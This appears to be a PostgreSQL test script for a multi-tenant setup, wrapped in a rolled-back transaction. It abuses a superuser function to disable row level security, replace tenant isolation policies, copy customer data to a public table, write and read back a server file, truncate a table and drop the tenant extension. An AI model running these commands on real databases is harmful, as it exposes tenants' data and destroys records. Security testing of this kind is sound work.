-- as: app owner
-- A superuser's function that runs what it is told: DDL that opens tables, copies, files.
\set ON_ERROR_ROLLBACK on
BEGIN;
SELECT shop.super_run('ALTER TABLE shop.customers DISABLE ROW LEVEL SECURITY');
SELECT * FROM shop.customers;
SELECT shop.super_run('DROP POLICY IF EXISTS tenant_isolation ON shop.items; DROP POLICY IF EXISTS own ON shop.items; CREATE POLICY any_row ON shop.items USING (true)');
SELECT * FROM shop.items;
SELECT shop.super_run('CREATE TABLE play.copies AS TABLE shop.customers; GRANT ALL ON play.copies TO PUBLIC');
TABLE play.copies;
SELECT shop.super_run('COPY shop.notes TO ''/tmp/pg_tenant_attack.copy'''), shop.super_dynamic('SELECT pg_read_file(''/tmp/pg_tenant_attack.copy'')');
SELECT shop.super_run('TRUNCATE shop.urgent_notes');
SELECT shop.super_run('DROP EXTENSION IF EXISTS pg_tenant CASCADE');
SELECT * FROM shop.urgent_notes;
ROLLBACK;
